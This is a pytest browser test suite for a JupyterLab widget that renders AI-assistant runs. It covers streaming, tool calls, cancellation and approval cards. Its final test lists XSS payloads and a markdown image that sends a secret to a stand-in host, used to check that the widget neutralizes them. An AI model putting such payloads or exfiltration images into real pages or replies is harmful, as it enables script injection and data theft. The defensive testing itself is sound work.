"""RunWidget in a real JupyterLab, driven through Debian's Chromium.

Each test writes a notebook whose kernel streams a scripted run (embedded engine, in-memory store,
``scripted:`` model) into a ``RunWidget`` as a background task, runs it from the browser and checks
the page through the widget's stable hooks (``.jr-run[data-status]``, ``.jr-message[data-role]``,
``.jr-tool-call``, ``.jr-stop``, ``.jr-approve`` / ``.jr-deny``).
"""

from __future__ import annotations

import json
import textwrap
from typing import Any

import pytest

pytestmark = pytest.mark.browser

COMPLETED = '.jr-run[data-status="completed"]'
REPLY = '.jr-message[data-role="assistant"]'

SETUP = textwrap.dedent('''
    import json, pathlib
    from jupyter_runs import Client, RunWidget

    def load_sales(region: str) -> list:
        """This quarter's sales rows for a region."""
        print(f"loading {region} sales")
        return [{"region": region, "q1": 100, "q2": 112 if region == "north" else 104}]

    def start(script, prompt, tools=(load_sales,)):
        path = pathlib.Path(f"script_{abs(hash(prompt)) % 10_000}.json")  # relative to the kernel's cwd
        path.write_text(json.dumps(script))
        client = Client(store=":memory:")
        asst = client.assistants.create(model=f"scripted:{path}", tools=list(tools))
        thread = client.threads.create()
        client.messages.create(thread.id, role="user", content=prompt)
        return client.runs.create(thread.id, assistant_id=asst.id, stream=True)
''')

TWO_TOOLS = {"delay": 0.03, "turns": [
    {"tool_calls": [{"name": "load_sales", "arguments": {"region": "north"}},
                    {"name": "load_sales", "arguments": {"region": "south"}}]},
    {"text": "**North** grew fastest this quarter: **+12%** (100 → 112), ahead of south at +4%.\n\n"
             "| region | q1 | q2 | growth |\n|---|---|---|---|\n| north | 100 | 112 | +12% |\n"
             "| south | 100 | 104 | +4% |\n\nTo recompute it:\n\n```python\n"
             "growth = {r['region']: r['q2'] / r['q1'] - 1 for r in rows}\n```"},
]}


def run_cell(prompt: str, script: dict[str, Any], extra: str = "") -> str:
    return textwrap.dedent(f'''
        prompt = {prompt!r}
        stream = start({script!r}, prompt)
        w = RunWidget(stream, env=globals())
        w.set_prompt(prompt)
        {extra}
        w
    ''')


def open_notebook(page: Any, lab: Any, name: str) -> None:
    page.goto(f"{lab.url}/lab/tree/{name}?reset")
    page.wait_for_function("() => window.jupyterapp !== undefined")
    page.evaluate("() => window.jupyterapp.restored.then(() => true)")
    page.wait_for_function(
        """() => {
            const w = window.jupyterapp.shell.currentWidget;
            const ctx = w && w.sessionContext;
            const k = ctx && ctx.session && ctx.session.kernel;
            return !!k && ctx.isReady && k.status === 'idle';
        }""",
        timeout=60_000,
    )


def run_all(page: Any) -> None:
    # Not awaited: the cells return at once while the run streams in the background.
    page.evaluate("() => { window.jupyterapp.commands.execute('notebook:run-all-cells'); }")


def watch_streaming(page: Any) -> None:
    """Remember whether the reply was ever seen mid-stream (with its caret)."""
    page.evaluate(
        """() => {
            window.__jrSawStreaming = false;
            new MutationObserver(() => {
                if (document.querySelector('.jr-message[data-role="assistant"][data-streaming="true"] .jr-caret'))
                    window.__jrSawStreaming = true;
            }).observe(document.body, {subtree: true, childList: true, attributes: true});
        }"""
    )


def set_theme(page: Any, theme: str) -> None:
    light = "true" if theme == "JupyterLab Light" else "false"
    page.evaluate(f"() => window.jupyterapp.commands.execute('apputils:change-theme', {{theme: {theme!r}}})")
    page.wait_for_function(f"() => document.body.dataset.jpThemeLight === '{light}'")
    page.wait_for_timeout(300)  # theme CSS swaps after the attribute


def test_scripted_run_with_two_tool_calls(page: Any, lab: Any, screenshot: Any) -> None:
    name = lab.write_notebook("two_tools.ipynb", [SETUP, run_cell("Which region grew fastest this quarter?", TWO_TOOLS)])
    open_notebook(page, lab, name)
    watch_streaming(page)
    run_all(page)
    page.wait_for_selector(COMPLETED, timeout=60_000)

    reply = page.locator(REPLY)
    assert reply.count() == 1
    assert "North grew fastest this quarter: +12%" in reply.inner_text()
    assert reply.locator("table td").count() == 8
    assert reply.locator("pre code .jr-hl-keyword").count() >= 1  # highlighted `for ... in`
    assert page.evaluate("() => window.__jrSawStreaming") is True
    assert page.locator('.jr-message[data-role="user"]').inner_text().endswith("Which region grew fastest this quarter?")

    calls = page.locator('.jr-tool-call[data-name="load_sales"]')
    assert calls.count() == 2
    for i, region in enumerate(("north", "south")):
        args = json.loads(calls.nth(i).locator(".jr-tool-args").text_content())  # folded: not rendered
        assert args == {"region": region}
        output = json.loads(calls.nth(i).locator(".jr-tool-output .jr-tool-output-text").text_content())
        assert output[0]["region"] == region
    assert page.locator('.jr-step[data-type="tool_calls"][data-status="completed"]').count() == 1
    assert page.locator('.jr-step[data-type="message_creation"][data-status="completed"]').count() == 1
    assert "tokens" in page.locator(".jr-usage").inner_text()
    assert not page.locator(".jr-stop").is_visible()

    try:
        set_theme(page, "JupyterLab Light")
        screenshot(page, "run-widget-light.png")
        set_theme(page, "JupyterLab Dark")
        screenshot(page, "run-widget-dark.png")
    finally:
        set_theme(page, "JupyterLab Light")


def test_reload_shows_the_finished_run_from_saved_state(page: Any, lab: Any) -> None:
    name = lab.write_notebook("reload.ipynb", [SETUP, run_cell("Which region grew fastest?", TWO_TOOLS)])
    open_notebook(page, lab, name)
    run_all(page)
    page.wait_for_selector(COMPLETED, timeout=60_000)
    before = page.locator(REPLY).inner_text()
    page.evaluate("() => window.jupyterapp.commands.execute('docmanager:save')")
    page.wait_for_function("() => !window.jupyterapp.shell.currentWidget.context.model.dirty")

    page.reload()
    page.wait_for_function("() => window.jupyterapp !== undefined")
    page.evaluate("() => window.jupyterapp.restored.then(() => true)")
    page.wait_for_selector(COMPLETED, timeout=60_000)
    assert page.locator(REPLY).inner_text() == before
    assert page.locator(".jr-tool-call").count() == 2
    assert page.locator(f"{REPLY} .jr-caret").count() == 0


def test_stop_mid_stream_cancels_and_keeps_the_partial_reply(page: Any, lab: Any, screenshot: Any) -> None:
    words = " ".join(f"word{i}" for i in range(400))
    script = {"delay": 0.05, "turns": [{"text": words}]}
    name = lab.write_notebook("stop.ipynb", [SETUP, run_cell("Write a lot.", script)])
    open_notebook(page, lab, name)
    run_all(page)
    page.wait_for_function(
        f"""() => {{
            const m = document.querySelector('{REPLY}');
            return m && m.textContent.includes('word10');
        }}""",
        timeout=60_000,
    )
    assert page.locator(f"{REPLY} .jr-caret").count() == 1
    screenshot(page, "run-widget-streaming.png")
    page.locator(".jr-stop").click()
    page.wait_for_selector('.jr-run[data-status="cancelled"]', timeout=30_000)
    text = page.locator(REPLY).inner_text()
    assert "word10" in text
    assert "word399" not in text
    page.wait_for_timeout(500)
    assert page.locator(REPLY).inner_text().startswith(text.rstrip())  # nothing erased afterwards
    assert page.locator('.jr-run[data-status="cancelled"]').count() == 1
    screenshot(page, "run-widget-cancelled.png")


APPROVAL_RUNNER = textwrap.dedent('''
    import inspect
    from jupyter_runs.tools import ToolRunner, ToolCallRecord

    def delete_rows(table: str) -> str:
        """Delete every row of a table."""
        return f"deleted rows of {table}"

    def send_mail(to: str) -> str:
        """Send the report by mail."""
        return f"mail sent to {to}"

    class ApprovingRunner:
        """Asks the widget before each call (stands in until tools.ToolRunner has approvals)."""
        def __init__(self, widget):
            self.widget = widget
        async def run_async(self, run, tool_calls):
            records = []
            for call in tool_calls:
                fn = call["function"]
                rec = ToolCallRecord(call["id"], fn["name"], fn["arguments"])
                decision = await self.widget.request_approval(
                    {"tool_call_id": call["id"], "name": fn["name"], "arguments": fn["arguments"]})
                if decision.approved:
                    rec.arguments = decision.arguments
                    rec.output = globals()[fn["name"]](**decision.arguments)
                else:
                    rec.status, rec.output = "denied", f"denied: {decision.reason}"
                records.append(rec)
            return records

    def approving_runner(widget):
        if "approver" in inspect.signature(ToolRunner).parameters:
            return ToolRunner(env=globals(), tools=[delete_rows, send_mail],
                              approve={"delete_rows", "send_mail"}, approver=widget.request_approval)
        return ApprovingRunner(widget)
''')


def test_approval_card_approves_one_call_and_denies_another(page: Any, lab: Any, screenshot: Any) -> None:
    script = {"delay": 0.01, "turns": [
        {"tool_calls": [{"name": "delete_rows", "arguments": {"table": "staging"}},
                        {"name": "send_mail", "arguments": {"to": "boss@example.org"}}]},
        {"text": "Cleared the staging table; the mail was not sent."},
    ]}
    cell = textwrap.dedent(f'''
        prompt = "Clean up and tell the boss."
        stream = start({script!r}, prompt, tools=(delete_rows, send_mail))
        w = RunWidget()
        w.set_prompt(prompt)
        w.drive(stream, env=globals(), runner=approving_runner(w))
        w
    ''')
    name = lab.write_notebook("approve.ipynb", [SETUP, APPROVAL_RUNNER, cell])
    open_notebook(page, lab, name)
    run_all(page)

    first = page.locator('.jr-approval[data-status="pending"]').first
    first.wait_for(timeout=60_000)
    assert "delete_rows" in first.inner_text()
    args = first.locator(".jr-approval-args")
    assert json.loads(args.input_value()) == {"table": "staging"}
    args.fill('{"table": "staging_old"}')  # the user edits the arguments before approving
    screenshot(page, "run-widget-approval.png")
    names = page.locator(".jr-tool-call .jr-tool-name").all_inner_texts()
    assert names == ["delete_rows", "send_mail"]  # mid-run state, not only the final snapshot
    assert page.locator('.jr-tool-call[data-name="delete_rows"]').get_attribute("data-status") == "awaiting approval"
    first.locator(".jr-approve").click()

    # Both cards may be pending at once (the runner asks for every call of the action together).
    page.wait_for_selector('.jr-approval[data-status="approved"]:has-text("delete_rows")', timeout=30_000)
    page.locator('.jr-approval[data-status="pending"]:has-text("send_mail") .jr-deny').click()

    page.wait_for_selector(COMPLETED, timeout=60_000)
    assert page.locator('.jr-approval[data-status="approved"]').count() == 1
    assert page.locator('.jr-approval[data-status="denied"]').count() == 1
    deleted = page.locator('.jr-tool-call[data-name="delete_rows"] .jr-tool-output').text_content()
    assert "deleted rows of staging_old" in deleted
    mailed = page.locator('.jr-tool-call[data-name="send_mail"] .jr-tool-output').text_content()
    assert "denied" in mailed
    assert "mail sent" not in mailed


XSS = [
    "<script>window.__jrPwned = 'script'</script>",
    '<img src="x" onerror="window.__jrPwned = \'onerror\'">',
    "[click me](javascript:window.__jrPwned='link')",
    '<svg onload="window.__jrPwned = \'svg\'"><circle r="5"/></svg>',
    "<iframe src=\"javascript:window.__jrPwned='iframe'\"></iframe>",
    "![img](javascript:window.__jrPwned='img')",
    '<a href="javascript:window.__jrPwned=\'a\'">link</a>',
    "<details open ontoggle=\"window.__jrPwned='toggle'\">x</details>",
    "![leak](https://leak.example.invalid/pixel.png?secret=1)",  # a remote image: shown as a link
]


def test_xss_in_a_reply_executes_nothing_and_shows_as_text(page: Any, lab: Any) -> None:
    text = "Here you go:\n\n" + "\n\n".join(XSS)
    script = {"delay": 0.005, "turns": [
        {"tool_calls": [{"name": "load_sales", "arguments": {"region": "<img src=x onerror=window.__jrPwned='args'>"}}]},
        {"text": text},
    ]}
    name = lab.write_notebook("xss.ipynb", [SETUP, run_cell("Show me some HTML.", script)])
    dialogs: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    leaks: list[str] = []
    page.on("request", lambda r: leaks.append(r.url) if "leak.example" in r.url else None)
    open_notebook(page, lab, name)
    run_all(page)
    page.wait_for_selector(COMPLETED, timeout=60_000)
    # Click everything clickable in the reply: a surviving javascript: link would fire now.
    for link in page.locator(f"{REPLY} a:not(.jr-img-link)").all():
        link.click(modifiers=["Control"])
    page.wait_for_timeout(300)

    assert page.evaluate("() => window.__jrPwned") is None
    assert dialogs == []
    assert leaks == []  # no request left for the model's image URL
    assert page.locator(f'{REPLY} a.jr-img-link[href^="https://leak.example.invalid/"]').count() == 1
    run = page.locator(".jr-run")
    assert run.locator("script, iframe, svg, object, embed").count() == 0
    assert run.locator(".jr-md details").count() == 0  # steps are <details> of ours; none from the model
    assert run.locator("img").count() == 0
    shown = page.locator(REPLY).inner_text()
    assert "<script>window.__jrPwned = 'script'</script>" in shown
    assert "<iframe" in shown and "onerror" in shown
    args = page.locator(".jr-tool-call .jr-tool-args").text_content()
    assert "<img src=x onerror=" in args
    hrefs = page.evaluate("() => [...document.querySelectorAll('.jr-run a')].map(a => a.getAttribute('href'))")
    assert not [h for h in hrefs if h and h.replace(" ", "").lower().startswith("javascript:")]
